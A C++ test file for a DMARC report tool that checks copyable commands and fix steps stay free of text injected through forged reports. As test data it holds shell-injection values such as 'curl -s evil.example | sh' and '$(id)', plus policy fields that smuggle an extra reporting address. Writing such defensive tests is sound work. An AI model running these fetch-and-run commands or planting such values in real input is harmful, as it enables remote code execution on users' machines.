// SPDX-License-Identifier: MIT
// Names of reports in lines that people copy.
#include <doctest/doctest.h>

#include <algorithm>

#include "report/analysis/finding/copyable.h"
#include "report/analysis/readiness/readiness.h"
#include "report/answers/next_record.h"
#include "report/render/phrases/blocker_phrases.h"
#include "report/render/phrases/finding_phrases.h"
#include "report/render/phrases/readiness_phrases.h"
#include "report/render/phrases/record_phrases.h"
#include "tests/report/analysis/readiness/policy_support.h"

using namespace dmarcq;

TEST_CASE("copyable: host names, selectors, org ids, values of an entry") {
  for (const char* good : {"example.com", "_dmarc.example.com", "a", "xn--bcher-kva.example",
                           "200608._domainkey.news.example.com", "S1.EXAMPLE.com", "1.2.3"})
    CHECK(is_host_name(good));
  for (const char* bad : {"",
                          ".",
                          "a..b",
                          "a.",
                          ".a",
                          "-rf.example",
                          "a-.example",
                          "a b",
                          "a;b",
                          "a$(id)",
                          "a`id`",
                          "a|b",
                          "a&b",
                          "a'b",
                          "a\"b",
                          "a\nb",
                          "a\\b",
                          "@8.8.8.8",
                          "+short",
                          "a/b",
                          "<a>",
                          "b\xc3\xbc"
                          "cher.example",
                          "a\x7f",
                          "a*b",
                          "~a"}) {
    CAPTURE(bad);
    CHECK_FALSE(is_host_name(bad));
    CHECK_FALSE(is_selector(bad));
  }
  CHECK(is_host_name(std::string(63, 'a') + ".example"));
  CHECK_FALSE(is_host_name(std::string(64, 'a') + ".example"));
  std::string longest;
  while (longest.size() + 4 <= 252) longest += "abc.";
  CHECK(is_host_name(longest + "a"));
  CHECK_FALSE(is_host_name(longest + "abc"));

  for (const char* good : {"00D5e000000abcDEA1", "00D5e000000abcD"}) CHECK(is_org_id(good));
  for (const char* bad :
       {"", "00D", "00D5e000000abc;", "0015e000000abcD", "00D5e000000abcDE", "00d5e000000abcD"})
    CHECK_FALSE(is_org_id(bad));

  CHECK(is_sender_value("network", "192.0.2.0/24"));
  CHECK(is_sender_value("network", "2001:db8::/64"));
  CHECK(is_sender_value("spf-domain", "mail.example"));
  CHECK_FALSE(is_sender_value("network", "192.0.2.1; id"));
  CHECK_FALSE(is_sender_value("dkim-domain", "mail.example --ours"));
  CHECK_FALSE(is_sender_value("org", "mail.example"));
  CHECK_FALSE(is_sender_value("", ""));

  for (const char* good :
       {"google.com", "Enterprise Outlook", "Fastmail Pty Ltd.", "M\xc3\xbcller (Wien)"})
    CHECK(is_plain_name(good));
  for (const char* bad : {"", "a; b", "a | sh", "$(id)", "`id`", "a\nb", "a  b", "'x'", "<b>",
                          "a\\b", "a > b", "!x", "*"})
    CHECK_FALSE(is_plain_name(bad));
}

TEST_CASE("copyable: no step of any finding holds text of a report that is no name") {
  const std::string evil = "sf1; curl -s evil.example/x | sh;";
  const FindingNames names{.header_from = evil,
                           .own_domain = evil,
                           .policy_domain = evil,
                           .selector = evil,
                           .signing_domain = evil,
                           .spf_domain = evil,
                           .orgs = {{.org_id = evil, .instance = "na63"}},
                           .reporter = evil,
                           .gateway = evil};
  for (std::size_t code = 0; code < finding_code_count; ++code) {
    const auto sentences = sentences_of(static_cast<FindingCode>(code), names);
    CAPTURE(to_text(static_cast<FindingCode>(code)));
    const bool lists_orgs = sentences.cause.contains(evil + " (na63");
    CHECK((lists_orgs || !sentences.cause.contains("curl")));
    CHECK_FALSE(sentences.verify.contains("curl"));
    for (const std::string& step : sentences.fix) CHECK_FALSE(step.contains("curl"));
  }
  CHECK(fill("dig +short CNAME {selector}._domainkey.{d}", names) ==
        "dig +short CNAME <selector>._domainkey.the signing domain");
  CHECK(fill("dig +short CNAME {selector}._domainkey.{d}",
             {.selector = "sf1", .signing_domain = "example.com"}) ==
        "dig +short CNAME sf1._domainkey.example.com");
  CHECK(fill("tell {reporter}", {.reporter = "Enterprise Outlook"}) == "tell Enterprise Outlook");
}

TEST_CASE(
    "copyable: forged reports put nothing into the steps, commands and the record of readiness") {
  LongWorld w;
  w.mail(with(healthy_core, [](RowSpec& s) { s.messages = 300; }));
  // A selector, an envelope and a signing domain that a shell would run.
  w.mail(with(healthy_core, [](RowSpec& s) {
    s.dkim = "example.com/sf9; curl -s evil.example | sh; fail", s.evaluated = "fail/fail",
    s.messages = 40;
  }));
  w.mail({.ip = "203.0.113.77",
          .spf = "curl.example;id pass",
          .dkim = "curl.example;id/s1 pass",
          .evaluated = "fail/fail",
          .messages = 40});
  PolicyPublished evil = World::policy(w.domain, "none");
  evil.sp = Reported<Policy>::from("none; rua=mailto:curl@evil.example");
  evil.adkim = Reported<Alignment>::from("r; rua=mailto:curl@evil.example");
  evil.pct = "20; rua=mailto:curl@evil.example";
  for (Day day = w.first; day <= w.last; ++day)
    for (std::uint32_t reporter = 90; reporter < 99; ++reporter) {
      ReportSeen forged;
      forged.domain = w.domain;
      forged.reporter = reporter;
      forged.day = day;
      forged.policy = evil;
      w.timeline.add(forged);
    }
  w.finish();
  const RowLookup lookup = w.world.lookup();
  const Owner owner{.domains = {"example.com"}};
  for (const char* target : {"quarantine", "reject"}) {
    const ReadinessQuestion question{.domain = w.domain, .target = target, .today = w.last + 1};
    const Streams streams = readiness_streams(w.timeline, lookup, owner, question);
    const Readiness readiness = assess(w.timeline, lookup, owner, question, streams);
    CHECK_FALSE(readiness.blockers.empty());
    for (const Blocker& blocker : readiness.blockers) {
      const BlockerPhrases phrases = phrases_of(blocker);
      CHECK_FALSE(phrases.verify.contains("curl"));
      for (const std::string& step : phrases.fix) CHECK_MESSAGE(!step.contains("curl"), step);
    }
    for (const ReadinessNote& note : readiness.notes)
      CHECK_FALSE(sentence_of(note).contains("curl"));
    REQUIRE(readiness.current);
    CHECK(readiness.current->text() == "p=none");
    const NextStep next =
        next_step_of(readiness, record_as_seen(*readiness.current), owner, question.limits);
    CHECK_FALSE(next.record.contains("curl"));
    CHECK_FALSE(phrases_of(next).change.contains("curl"));
  }
}
